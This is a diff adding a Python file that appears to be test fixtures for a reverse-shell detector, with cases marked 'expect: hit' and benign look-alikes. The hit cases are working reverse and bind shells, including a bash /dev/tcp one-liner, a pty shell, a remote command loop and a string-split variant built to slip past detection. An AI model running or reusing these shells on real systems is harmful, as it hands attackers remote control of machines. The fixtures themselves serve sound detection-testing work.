@@ -1,0 +1,82 @@
+import os
+import pty
+import socket
+import subprocess
+import threading
+
+
+def plain():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("203.0.113.7", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])  # expect: hit
+
+
+def with_terminal(host, port):
+    s = socket.create_connection((host, port))
+    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
+    pty.spawn("/bin/bash")  # expect: hit
+
+
+def one_line():
+    os.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")  # expect: hit
+
+
+def received():
+    s = socket.socket()
+    s.connect(("203.0.113.7", 4444))
+    while True:
+        os.popen(s.recv(1024).decode())  # expect: hit
+
+
+def spelled():
+    k = __import__("so" + "cket").socket()
+    getattr(k, "con" + "nect")(("203.0.113.7", 4444))
+    for fd in range(3):
+        getattr(os, "du" + "p2")(k.fileno(), fd)
+    getattr(subprocess, "".join(["ca", "ll"]))(["/bin/" + "sh", "-i"])  # expect: hit
+
+
+def _connect():
+    s = socket.socket()
+    s.connect(("203.0.113.7", 4444))
+    return s
+
+
+def _shell(s):
+    subprocess.Popen(["sh"], stdin=s.fileno(), stdout=s.fileno())  # expect: hit
+
+
+def split():
+    _shell(_connect())
+
+
+def bound():
+    s = socket.socket()
+    s.bind(("0.0.0.0", 5555))
+    s.listen(1)
+    c, _ = s.accept()
+    threading.Thread(target=_serve, args=(c,)).start()
+
+
+def _serve(c):
+    subprocess.run(c.recv(100), shell=True)  # expect: hit
+
+
+# look-alikes
+def echo():
+    s = socket.socket()
+    s.bind(("127.0.0.1", 8000))
+    c, _ = s.accept()
+    c.sendall(c.recv(10))
+
+
+def shell():
+    subprocess.call(["/bin/sh", "-i"])
+
+
+def tool():
+    s = socket.create_connection(("example.com", 80))
+    s.close()
+    subprocess.run(["git", "status"])
